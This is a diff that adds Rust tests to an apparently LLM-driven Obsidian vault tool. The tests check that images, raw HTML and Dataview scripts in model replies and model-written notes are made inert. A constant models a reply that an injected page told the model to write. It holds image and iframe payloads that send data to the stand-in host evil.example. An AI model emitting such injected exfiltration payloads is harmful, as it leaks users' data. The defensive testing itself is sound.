@@ -3016,3 +3016,129 @@ fn nodes_whose_output_names_meet_keep_their_own_outputs() {
         assert_eq!(last.matches(output).count(), 1, "{output} in {last}");
     }
 }
+
+/// A reply that a page told the model to write: an image whose URL carries
+/// what the model read, raw HTML, Dataview JavaScript.
+const ACTIVE: &str = "Draft. ![pixel](https://evil.example/p.png?d=invite) <img src=\"https://evil.example/i\"> `$= dv.pages()`";
+
+/// A model whose draft carries [`ACTIVE`] and approves every review.
+fn active_model(call: &HttpCall) -> Reply {
+    match step(call) {
+        "draft" => Reply::streamed(ACTIVE),
+        _ => good_model(call),
+    }
+}
+
+/// What a reply would have Obsidian load or run is made inert in the
+/// note that shows it, while the run goes on with the reply itself, also
+/// after a stop at any write: a resumed run asks what an unbroken one asks.
+#[test]
+fn a_replys_images_html_and_scripts_are_inert_in_its_note_but_not_in_the_run() {
+    let inbox = Inbox::new();
+    let clean = MemoryHost::new(example(), &inbox, active_model);
+    assert_eq!(
+        go(&clean, &inbox, start(model())),
+        Some(FinishReason::Completed)
+    );
+    let note = clean.file("00_plan-trace/draft.visit-1.md").unwrap();
+    assert!(
+        note.contains("Draft. [pixel](https://evil.example/p.png?d=invite) &lt;img src=\"https://evil.example/i\"> `$ = dv.pages()`"),
+        "{note}"
+    );
+    let asked = |host: &MemoryHost| -> Vec<String> {
+        host.calls
+            .borrow()
+            .iter()
+            .filter(|c| step(c) == "review")
+            .map(prompt)
+            .collect()
+    };
+    let clean_asked = asked(&clean);
+    assert!(
+        clean_asked.iter().all(|p| p.contains(ACTIVE)),
+        "{clean_asked:?}"
+    );
+    let writes = clean.writes.borrow().len();
+    for full_at in 0..writes {
+        let inbox = Inbox::new();
+        let host = MemoryHost::new(example(), &inbox, active_model);
+        host.space_left.set(Some(full_at));
+        go(&host, &inbox, start(model()));
+        host.space_left.set(None);
+        assert_eq!(
+            go(&host, &inbox, start(model())),
+            Some(FinishReason::Completed),
+            "full at {full_at}"
+        );
+        for prompt in asked(&host) {
+            assert!(prompt.contains(ACTIVE), "full at {full_at}: {prompt}");
+        }
+        assert_eq!(
+            host.file("00_plan-trace/draft.visit-1.md"),
+            Some(note.clone()),
+            "full at {full_at}"
+        );
+    }
+}
+
+/// A note the model writes is made inert as an output is (opening it loads
+/// nothing), and the model is told so; one with nothing active is written
+/// as it came.
+#[test]
+fn a_note_the_model_writes_loads_and_runs_nothing() {
+    let vault: BTreeMap<String, String> = [
+        (
+            "do.md",
+            "---\ntype: start\ntools: [write_note]\n---\n# Do it\n\nWrite the notes.\n",
+        ),
+        (".obsidian/app.json", "{}"),
+    ]
+    .into_iter()
+    .map(|(p, t)| (p.to_string(), t.to_string()))
+    .collect();
+    let writer = |c: &HttpCall| {
+        let turns = c.body["messages"].as_array().unwrap();
+        match turns.iter().filter(|m| m["role"] == "tool").count() {
+            0 => Reply::tool_call(
+                "c1",
+                "write_note",
+                r##"{"path":"notes/report.md","content":"---\ntitle: <b>kept</b>\n---\n# Report\n\n![x](https://evil.example/?d=1)\n\n<iframe src=\"https://evil.example\"></iframe>\n"}"##,
+            ),
+            1 => Reply::tool_call(
+                "c2",
+                "write_note",
+                r##"{"path":"notes/plain.md","content":"# Plain\n\n![chart](chart.png) and a < b\n"}"##,
+            ),
+            _ => Reply::streamed("Written."),
+        }
+    };
+    let inbox = Inbox::new();
+    let host = MemoryHost::new(vault, &inbox, writer);
+    assert_eq!(
+        go(&host, &inbox, start(model())),
+        Some(FinishReason::Completed)
+    );
+    assert_eq!(
+        host.file("notes/report.md").as_deref(),
+        Some("---\ntitle: <b>kept</b>\n---\n# Report\n\n[x](https://evil.example/?d=1)\n\n&lt;iframe src=\"https://evil.example\">&lt;/iframe>\n")
+    );
+    assert_eq!(
+        host.file("notes/plain.md").as_deref(),
+        Some("# Plain\n\n![chart](chart.png) and a < b\n")
+    );
+    let told: Vec<String> = host.calls.borrow().last().unwrap().body["messages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|m| m["role"] == "tool")
+        .map(|m| m["content"].as_str().unwrap_or_default().to_string())
+        .collect();
+    assert!(
+        told[0].contains("wrote notes/report.md, its remote images as links"),
+        "{told:?}"
+    );
+    assert!(
+        told[1].contains("wrote notes/plain.md") && !told[1].contains("links"),
+        "{told:?}"
+    );
+}
